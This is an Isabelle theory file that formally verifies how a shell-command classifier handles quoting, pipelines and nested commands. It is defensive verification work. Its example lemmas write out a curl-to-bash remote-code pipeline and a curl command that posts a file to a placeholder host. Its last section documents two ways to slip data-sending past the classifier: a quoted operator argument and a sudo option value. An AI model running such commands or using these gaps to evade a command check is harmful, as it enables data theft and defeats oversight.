(* ===== verification/Shell_Quoting.thy ===== *)
theory Shell_Quoting
  imports Tool_Classifier
begin

text \<open>
  What the classifier makes of quoted commands: \<open>shlex.join\<close> is undone by its tokenizer, a quoted
  pipeline is classified word for word, and the commands within commands end.
\<close>

section \<open>Quoted words\<close>

abbreviation requote :: "char \<Rightarrow> string" where
  "requote c \<equiv> (if c = squote then [squote, dquote, squote, dquote, squote] else [c])"

lemma shell_safe_chars:
  assumes "shell_safe c"
  shows "c \<noteq> squote" "c \<noteq> dquote" "c \<noteq> bslash" "c \<noteq> newline" "c \<noteq> CHR '' ''" "c \<noteq> CHR ''#''"
    "c \<noteq> CHR ''<''" "c \<noteq> CHR ''$''" "c \<noteq> CHR ''(''" "c \<noteq> CHR 0x60" "\<not> lex_punct c" "\<not> lex_space c"
    "\<not> lex_quote c"
  using assms
  by (auto simp: shell_safe_def is_word_char_def is_lower_char_def is_upper_char_def is_digit_char_def
      char_between_def code_def lex_punct_def lex_space_def lex_quote_def)

lemma shell_quote_cases:
  obtains (plain) "w \<noteq> []" "list_all shell_safe w" "shell_quote w = w"
    | (quoted) "shell_quote w = [squote] @ concat (map requote w) @ [squote]"
  by (cases "w = []"; cases "list_all shell_safe w") (simp_all add: shell_quote_def)

lemma lex_quoted:
  "shlex (Quoted squote) tok (concat (map requote w) @ squote # rest) = shlex Word (tok @ w) rest"
proof (induction w arbitrary: tok)
  case (Cons c w)
  show ?case
    using Cons [of "tok @ [c]"] by (cases "c = squote") (simp_all add: lex_quote_def lex_space_def)
qed simp

lemma lex_safe: "list_all shell_safe w \<Longrightarrow> shlex Word tok (w @ rest) = shlex Word (tok @ w) rest"
  by (induction w arbitrary: tok) (simp_all add: shell_safe_chars)

lemma lex_shell_quote: "shlex Blank [] (shell_quote w @ rest) = shlex Word w rest"
proof (cases w rule: shell_quote_cases)
  case plain
  then obtain c v where w: "w = c # v" "shell_safe c" "list_all shell_safe v" by (cases w) auto
  with plain lex_safe [of v "[c]" rest] show ?thesis by (simp add: shell_safe_chars)
next
  case quoted
  with lex_quoted [of "[]" w rest] show ?thesis by (simp add: lex_quote_def lex_space_def lex_punct_def)
qed

lemma lex_word_end:
  assumes "rest = [] \<or> (\<exists>r. rest = CHR '' '' # r)"
  shows "shlex Word w rest = map_option ((#) w) (shlex Blank [] rest)"
  using assms by (auto simp: lex_space_def)

lemma shell_join_Cons: "ws \<noteq> [] \<Longrightarrow> shell_join (w # ws) = shell_quote w @ CHR '' '' # shell_join ws"
  by (cases ws) (simp_all add: shell_join_def)

lemma lex_shell_join:
  assumes "ws \<noteq> []" and "rest = [] \<or> (\<exists>r. rest = CHR '' '' # r)"
  shows "shlex Blank [] (shell_join ws @ rest) = map_option ((@) ws) (shlex Blank [] rest)"
  using assms(1)
proof (induction ws)
  case (Cons w ws)
  show ?case
  proof (cases "ws = []")
    case True
    then show ?thesis
      by (simp add: shell_join_def lex_shell_quote lex_word_end [OF assms(2)] option.map_comp comp_def)
  next
    case False
    have sp: "shlex Word w (CHR '' '' # t) = map_option ((#) w) (shlex Blank [] t)" for t
      by (simp add: lex_space_def)
    from Cons.IH [OF False] False show ?thesis
      by (simp del: shlex.simps add: shell_join_Cons lex_shell_quote sp option.map_comp comp_def)
  qed
qed simp

section \<open>The scan of quoted words\<close>

text \<open>Outside every quotation, a character that starts nothing is kept.\<close>

lemma scan_Nil [simp]: "scan st [] = st"
  by (simp add: scan.simps [of st "[]"])

lemma scan_turn: "scan_step st (c # cs) = (st', r) \<Longrightarrow> scan st (c # cs) = scan st' r"
  by (simp add: scan.simps [of st "c # cs"])

definition inert :: "char \<Rightarrow> bool" where
  "inert c = (c \<notin> {bslash, CHR ''#'', CHR ''<'', newline, CHR ''$'', CHR ''('', squote, dquote, CHR 0x60})"

lemma inertD:
  assumes "inert c"
  shows "c \<noteq> bslash" "c \<noteq> CHR ''#''" "c \<noteq> newline" "CHR ''<'' \<noteq> c"
    "heredoc_op (c # cs) = None" "opener (c # cs) None = None"
  using assms by (auto simp: inert_def heredoc_op_def opener_def openers_def)

lemma scan_inert:
  assumes "sc_stack st = []" "inert c"
  shows "scan st (c # cs) = scan (keep [c] st) cs"
  by (rule scan_turn)
    (simp add: scan_step_def Let_def innermost_def assms(1) in_command_def inertD [OF assms(2)])

lemma scan_plain:
  "sc_stack st = [] \<Longrightarrow> list_all inert w \<Longrightarrow> scan st (w @ cs) = scan (keep w st) cs"
proof (induction w arbitrary: st)
  case (Cons c w)
  then have "scan (keep [c] st) (w @ cs) = scan (keep w (keep [c] st)) cs" by (simp add: keep_def)
  with Cons.prems show ?case by (simp add: scan_inert keep_def)
qed (simp add: keep_def)

lemma scan_open_single:
  "sc_stack st = [] \<Longrightarrow> scan st (squote # cs) = scan (keep [squote] (st\<lparr>sc_stack := [Single]\<rparr>)) cs"
  by (rule scan_turn) (simp add: scan_step_def Let_def innermost_def in_command_def heredoc_op_def
      opener_def openers_def)

lemma scan_in_single:
  "sc_stack st = [Single] \<Longrightarrow> scan st (c # cs) =
     scan (if c = squote then keep [c] (st\<lparr>sc_stack := []\<rparr>) else keep [c] st) cs"
  by (rule scan_turn) (simp add: scan_step_def Let_def innermost_def)

lemma scan_open_double:
  "sc_stack st = [] \<Longrightarrow> scan st (dquote # cs) = scan (keep [dquote] (st\<lparr>sc_stack := [Double]\<rparr>)) cs"
  by (rule scan_turn) (simp add: scan_step_def Let_def innermost_def in_command_def heredoc_op_def
      opener_def openers_def)

lemma scan_in_double:
  assumes "sc_stack st = [Double]"
  shows "scan st (squote # dquote # cs) = scan (keep [squote, dquote] (st\<lparr>sc_stack := []\<rparr>)) cs"
proof -
  have "scan st (squote # dquote # cs) = scan (keep [squote] st) (dquote # cs)"
    by (rule scan_turn) (simp add: assms scan_step_def Let_def innermost_def in_command_def opener_def
        quoted_openers_def)
  also have "\<dots> = scan (keep [dquote] ((keep [squote] st)\<lparr>sc_stack := []\<rparr>)) cs"
    by (rule scan_turn) (simp add: assms scan_step_def Let_def innermost_def keep_def)
  finally show ?thesis by (simp add: keep_def)
qed

lemma keep_keep [simp]: "keep b (keep a st) = keep (a @ b) st"
  by (simp add: keep_def)

lemma keep_Nil [simp]: "keep [] st = st"
  by (simp add: keep_def)

lemma keep_stack [simp]:
  "sc_stack (keep a st) = sc_stack st" "(keep a st)\<lparr>sc_stack := x\<rparr> = keep a (st\<lparr>sc_stack := x\<rparr>)"
  by (simp_all add: keep_def)

lemma scan_quoted:
  "sc_stack st = [Single] \<Longrightarrow> scan st (concat (map requote w) @ squote # cs) =
     scan (keep (concat (map requote w) @ [squote]) (st\<lparr>sc_stack := []\<rparr>)) cs"
proof (induction w arbitrary: st)
  case (Cons c w)
  show ?case
  proof (cases "c = squote")
    case True
    have "scan st (concat (map requote (c # w)) @ squote # cs) =
      scan (keep [squote, dquote, squote, dquote, squote] (st\<lparr>sc_stack := [Single]\<rparr>))
        (concat (map requote w) @ squote # cs)"
      using Cons.prems True by (simp add: scan_in_single scan_open_double scan_in_double scan_open_single)
    with Cons.IH [of "keep [squote, dquote, squote, dquote, squote] (st\<lparr>sc_stack := [Single]\<rparr>)"] True
    show ?thesis by simp
  next
    case False
    with Cons.prems Cons.IH [of "keep [c] st"] show ?thesis by (simp add: scan_in_single)
  qed
qed (simp add: scan_in_single)

lemma safe_inert: "shell_safe c \<Longrightarrow> inert c"
  by (auto simp: inert_def dest: shell_safe_chars)

lemma same_stack: "sc_stack st = [] \<Longrightarrow> st\<lparr>sc_stack := []\<rparr> = st"
  by simp

lemma scan_shell_quote:
  assumes "sc_stack st = []"
  shows "scan st (shell_quote w @ cs) = scan (keep (shell_quote w) st) cs"
proof (cases w rule: shell_quote_cases)
  case plain
  then have "list_all inert w" by (auto simp: list_all_iff safe_inert)
  with plain assms show ?thesis by (simp add: scan_plain)
next
  case quoted
  with assms scan_quoted [of "keep [squote] (st\<lparr>sc_stack := [Single]\<rparr>)" w cs] show ?thesis
    by (simp add: scan_open_single same_stack)
qed

lemma scan_shell_join:
  "sc_stack st = [] \<Longrightarrow> scan st (shell_join ws @ cs) = scan (keep (shell_join ws) st) cs"
proof (induction ws arbitrary: st)
  case (Cons w ws)
  show ?case
  proof (cases "ws = []")
    case True
    with Cons.prems show ?thesis by (simp add: shell_join_def scan_shell_quote)
  next
    case False
    have "inert (CHR '' '')" by (simp add: inert_def)
    with Cons.prems Cons.IH [of "keep (shell_quote w @ '' '') st"] False show ?thesis
      by (simp add: shell_join_Cons scan_shell_quote scan_inert)
  qed
qed (simp add: shell_join_def)

section \<open>Pipelines of quoted commands\<close>

text \<open>A word the tokenizer gives back: no newline, and not the text of an operator.\<close>

definition plain_word :: "string \<Rightarrow> bool" where
  "plain_word w = (newline \<notin> set w \<and> w \<notin> segment_ops)"

fun pipeline :: "string list list \<Rightarrow> string" where
  "pipeline [] = []"
| "pipeline [a] = shell_join a"
| "pipeline (a # b # ps) = shell_join a @ '' | '' @ pipeline (b # ps)"

fun pipeline_tokens :: "string list list \<Rightarrow> string list" where
  "pipeline_tokens [] = []"
| "pipeline_tokens [a] = a"
| "pipeline_tokens (a # b # ps) = a @ ''|'' # pipeline_tokens (b # ps)"

lemma pipeline_shlex:
  "list_all (\<lambda>a. a \<noteq> []) ps \<Longrightarrow> shlex Blank [] (pipeline ps) = Some (pipeline_tokens ps)"
proof (induction ps rule: pipeline.induct)
  case (2 a)
  then show ?case using lex_shell_join [of a "[]"] by simp
next
  case (3 a b ps)
  have bar: "shlex Blank [] ('' | '' @ t) = map_option ((#) ''|'') (shlex Blank [] t)" for t
    by (simp add: lex_space_def lex_punct_def)
  from 3 lex_shell_join [of a "'' | '' @ pipeline (b # ps)"] show ?case
    by (simp del: shlex.simps add: bar [simplified] option.map_comp comp_def)
qed simp

lemma pipeline_scan:
  "sc_stack st = [] \<Longrightarrow> scan st (pipeline ps) = keep (pipeline ps) st"
proof (induction ps arbitrary: st rule: pipeline.induct)
  case (2 a)
  then show ?case using scan_shell_join [of st a "[]"] by simp
next
  case (3 a b ps)
  have "list_all inert '' | ''" by (simp add: inert_def)
  with 3 scan_shell_join [of st a "'' | '' @ pipeline (b # ps)"]
    scan_plain [of "keep (shell_join a) st" "'' | ''" "pipeline (b # ps)"]
  show ?case by simp
qed simp

lemma split_segments_words:
  "list_all (\<lambda>w. w \<notin> segment_ops) a \<Longrightarrow> split_segments (a @ ts) =
     (case split_segments ts of (segs, cons) \<Rightarrow> ((a @ hd segs) # tl segs, cons))"
proof (induction a)
  case Nil
  have "fst (split_segments ts) \<noteq> []" by (induction ts) (auto split: prod.splits)
  then show ?case by (auto split: prod.splits)
qed (auto split: prod.splits)

lemma pipeline_segments:
  "ps \<noteq> [] \<Longrightarrow> list_all (list_all plain_word) ps \<Longrightarrow>
     split_segments (pipeline_tokens ps) = (ps, replicate (length ps - 1) ''|'')"
proof (induction ps rule: pipeline_tokens.induct)
  case (2 a)
  then have "list_all (\<lambda>w. w \<notin> segment_ops) a" by (auto simp: list_all_iff plain_word_def)
  from split_segments_words [OF this, of "[]"] show ?case by simp
next
  case (3 a b ps)
  then have "list_all (\<lambda>w. w \<notin> segment_ops) a" by (auto simp: list_all_iff plain_word_def)
  moreover have "''|'' \<in> segment_ops" by (simp add: segment_ops_def)
  ultimately show ?case using 3 split_segments_words [of a "''|'' # pipeline_tokens (b # ps)"] by simp
qed simp

lemma shell_quote_chars: "set (shell_quote w) \<subseteq> {squote, dquote} \<union> set w"
  by (auto simp: shell_quote_def split: if_splits)

lemma shell_join_newline: "list_all plain_word a \<Longrightarrow> newline \<notin> set (shell_join a)"
proof (induction a)
  case (Cons w a)
  have "newline \<notin> set (shell_quote w)"
    using shell_quote_chars [of w] Cons.prems by (auto simp: plain_word_def)
  with Cons show ?case by (cases "a = []") (simp_all add: shell_join_Cons, simp add: shell_join_def)
qed (simp add: shell_join_def)

lemma pipeline_newline: "list_all (list_all plain_word) ps \<Longrightarrow> newline \<notin> set (pipeline ps)"
  by (induction ps rule: pipeline.induct) (simp_all add: shell_join_newline)

lemma drop_continuations_id: "newline \<notin> set s \<Longrightarrow> drop_continuations s = s"
  by (induction s rule: drop_continuations.induct) auto

lemma newlines_to_semicolons_id: "newline \<notin> set s \<Longrightarrow> newlines_to_semicolons s = s"
  by (induction s) (auto simp: newlines_to_semicolons_def)

lemma pipeline_split: "split_heredocs (pipeline ps) = (pipeline ps, [])"
  by (simp add: split_heredocs_def scan_start_def pipeline_scan keep_def)

lemma pipeline_tokenize:
  assumes "list_all (list_all plain_word) ps" and "list_all (\<lambda>a. a \<noteq> []) ps"
  shows "tokenize (pipeline ps) = pipeline_tokens ps"
  using pipeline_newline [OF assms(1)] pipeline_shlex [OF assms(2)]
  by (simp add: tokenize_def drop_continuations_id newlines_to_semicolons_id)

text \<open>
  quoting a command and reading it back gives its words: whatever the words are but for
  newlines, the tokenizer returns exactly the list that \<open>shlex.join\<close> was given.
\<close>

theorem quoting_roundtrip:
  assumes "ws \<noteq> []" and "\<forall>w \<in> set ws. newline \<notin> set w"
  shows "tokenize (fst (split_heredocs (shell_join ws))) = ws"
proof -
  have "newline \<notin> set (shell_join ws)"
    using assms(2)
  proof (induction ws)
    case (Cons w a)
    have "newline \<notin> set (shell_quote w)"
      using shell_quote_chars [of w] Cons.prems by auto
    with Cons show ?case by (cases "a = []") (simp_all add: shell_join_Cons, simp add: shell_join_def)
  qed (simp add: shell_join_def)
  moreover have "split_heredocs (shell_join ws) = (shell_join ws, [])"
    using pipeline_split [of "[ws]"] by simp
  ultimately show ?thesis
    using lex_shell_join [OF assms(1), of "[]"]
    by (simp add: tokenize_def drop_continuations_id newlines_to_semicolons_id)
qed

lemma quoting_roundtrip_witness:
  "tokenize (fst (split_heredocs (shell_join [''sh'', ''-c'', ''cat <<X; it'' @ [squote] @ ''s # $(a)'']))) =
     [''sh'', ''-c'', ''cat <<X; it'' @ [squote] @ ''s # $(a)'']"
  by (rule quoting_roundtrip) simp_all

text \<open>
  C22: a pipeline of quoted commands whose words are plain (no word holds a newline or equals an
  operator such as \<open>;\<close> or \<open>|\<close>) is classified exactly by its words: it has the categories of each
  command, those of the command strings its shells are given, remote code execution if a command that
  fetches or decodes code feeds an interpreter (or its text holds a substituted download), and inline
  code if an interpreter with no program of its own reads its input. So quoting a plain word hides and
  adds no category. A word that equals an operator is the case where quoting does hide one, as the last
  section shows.
\<close>

theorem quoted_pipeline_classified:
  assumes "ps \<noteq> []" and "\<forall>a \<in> set ps. a \<noteq> [] \<and> (\<forall>w \<in> set a. plain_word w)"
  shows "classify_shell (pipeline ps) =
     (\<Union>a \<in> set ps. segment_categories a)
     \<union> (\<Union>c \<in> set (some_list (map command_string ps)). classify_shell c)
     \<union> tag ((\<exists>i. Suc i < length ps \<and> fst (executable (ps ! Suc i)) \<in> interpreters
              \<and> emits_fetched_code (ps ! i))
            \<or> substituted_fetch True (join_with '' '' (pipeline_tokens ps))) REMOTE_CODE_EXEC
     \<union> tag (\<exists>i. Suc i < length ps \<and> interpreter (fst (executable (ps ! Suc i))) \<noteq> []
              \<and> list_all is_flag (snd (executable (ps ! Suc i)))) RUNS_INLINE_CODE"
proof -
  have words: "list_all (list_all plain_word) ps" "list_all (\<lambda>a. a \<noteq> []) ps"
    using assms(2) by (auto simp: list_all_iff)
  note seg = pipeline_segments [OF assms(1) words(1)]
  have joint: "(c, a, b) \<in> set (joints ps (replicate (length ps - 1) ''|'')) \<longleftrightarrow>
      c = ''|'' \<and> (\<exists>i. Suc i < length ps \<and> a = ps ! i \<and> b = ps ! Suc i)" (is "?l \<longleftrightarrow> ?r") for c a b
  proof
    assume ?r
    then obtain i where "c = ''|''" "Suc i < length ps" "a = ps ! i" "b = ps ! Suc i" by blast
    then show ?l by (auto simp: joints_def in_set_zip nth_tl intro!: exI [of _ i])
  qed (auto simp: joints_def in_set_zip nth_tl less_diff_conv)
  have ex: "list_ex Q (joints ps (replicate (length ps - 1) ''|'')) \<longleftrightarrow>
      (\<exists>i. Suc i < length ps \<and> Q (''|'', ps ! i, ps ! Suc i))" for Q
    unfolding list_ex_iff Bex_def split_paired_Ex joint by blast
  have bar: "''|'' \<in> pipe_ops" by (simp add: pipe_ops_def)
  have "own_categories (pipeline ps) = (\<Union>a \<in> set ps. segment_categories a)
     \<union> tag (pipes_fetched_code ps (replicate (length ps - 1) ''|'')) REMOTE_CODE_EXEC
     \<union> tag (pipes_code_to_interpreter ps (replicate (length ps - 1) ''|'')) RUNS_INLINE_CODE
     \<union> tag (substituted_fetch True (join_with '' '' (pipeline_tokens ps))) REMOTE_CODE_EXEC"
    by (simp add: own_categories_def Let_def pipeline_split pipeline_tokenize [OF words] seg)
  moreover have "pipes_fetched_code ps (replicate (length ps - 1) ''|'') \<longleftrightarrow>
      (\<exists>i. Suc i < length ps \<and> fst (executable (ps ! Suc i)) \<in> interpreters \<and> emits_fetched_code (ps ! i))"
    unfolding pipes_fetched_code_def ex by (simp add: bar)
  moreover have "pipes_code_to_interpreter ps (replicate (length ps - 1) ''|'') \<longleftrightarrow>
      (\<exists>i. Suc i < length ps \<and> interpreter (fst (executable (ps ! Suc i))) \<noteq> []
         \<and> list_all is_flag (snd (executable (ps ! Suc i))))"
    unfolding pipes_code_to_interpreter_def ex by (simp add: bar case_prod_beta)
  moreover have "inner_commands (pipeline ps) = some_list (map command_string ps)"
    by (simp add: inner_commands_def pipeline_split pipeline_tokenize [OF words] seg)
  ultimately show ?thesis
    by (subst classify_shell.simps) (auto simp: tag_def)
qed

lemma quoted_pipeline_classified_witness:
  "REMOTE_CODE_EXEC \<in> classify_shell (pipeline [[''curl'', ''-s'', ''http://x/i.sh''], [''bash'']])"
proof -
  let ?ps = "[[''curl'', ''-s'', ''http://x/i.sh''], [''bash'']]"
  have "fst (executable (?ps ! Suc 0)) \<in> interpreters \<and> emits_fetched_code (?ps ! 0)" by code_simp
  then have "\<exists>i. Suc i < length ?ps \<and> fst (executable (?ps ! Suc i)) \<in> interpreters \<and> emits_fetched_code (?ps ! i)"
    by (intro exI [of _ 0]) simp
  moreover have "\<forall>a \<in> set ?ps. a \<noteq> [] \<and> (\<forall>w \<in> set a. plain_word w)" by code_simp
  ultimately show ?thesis by (subst quoted_pipeline_classified) (simp_all add: tag_def)
qed

section \<open>Commands within commands\<close>

text \<open>
  C23: the classification ends: along any nesting of commands, each a heredoc body that a shell runs
  or an expansion of one, or the command string of a shell in the command before, the weights
  (lengths, with three for a newline) strictly fall, so a command of weight \<open>n\<close> nests at most \<open>n\<close>
  deep and the recursion of \<open>_classify_shell\<close> returns.
\<close>

theorem nested_commands_end:
  assumes "successively (\<lambda>c d. d \<in> set (inner_commands c)) (c # cs)"
  shows "length cs + weight (last (c # cs)) \<le> weight c \<and> distinct (c # cs)"
proof -
  have falls: "length ds + weight (last (d # ds)) \<le> weight d \<and> (\<forall>e \<in> set ds. weight e < weight d) \<and> distinct (d # ds)"
    if "successively (\<lambda>c d. d \<in> set (inner_commands c)) (d # ds)" for d ds
    using that
  proof (induction ds arbitrary: d)
    case (Cons e ds)
    then have e: "weight e < weight d" by (simp add: inner_commands_lighter)
    from Cons have "length ds + weight (last (e # ds)) \<le> weight e" "\<forall>x \<in> set ds. weight x < weight e"
      "distinct (e # ds)" by auto
    with e show ?case by fastforce
  qed simp
  from falls [OF assms] show ?thesis by blast
qed

lemma nested_commands_end_witness:
  "length [''ls''] + weight (last (''sh -c ls'' # [''ls''])) \<le> weight ''sh -c ls'' \<and> distinct (''sh -c ls'' # [''ls''])"
proof (rule nested_commands_end)
  have "''ls'' \<in> set (inner_commands ''sh -c ls'')" by code_simp
  then show "successively (\<lambda>c d. d \<in> set (inner_commands c)) (''sh -c ls'' # [''ls''])" by simp
qed

section \<open>What the tokens lose\<close>

text \<open>
  The tokens do not say which of them were quoted, so an argument that is the text of an operator
  ends its command; and the value of an option of a wrapper is taken for the command it runs.
\<close>

lemma quoted_operator_hides_send:
  "SENDS_EXTERNAL \<in> classify_shell ''curl -H x -d @k http://e''"
  "SENDS_EXTERNAL \<notin> classify_shell (''curl -H '' @ [squote, CHR '';'', squote] @ '' -d @k http://e'')"
  by code_simp+

lemma wrapper_option_value_hides_send:
  "SENDS_EXTERNAL \<in> classify_shell ''sudo curl -d @k http://e''"
  "SENDS_EXTERNAL \<notin> classify_shell ''sudo -u root curl -d @k http://e''"
  by code_simp+

end
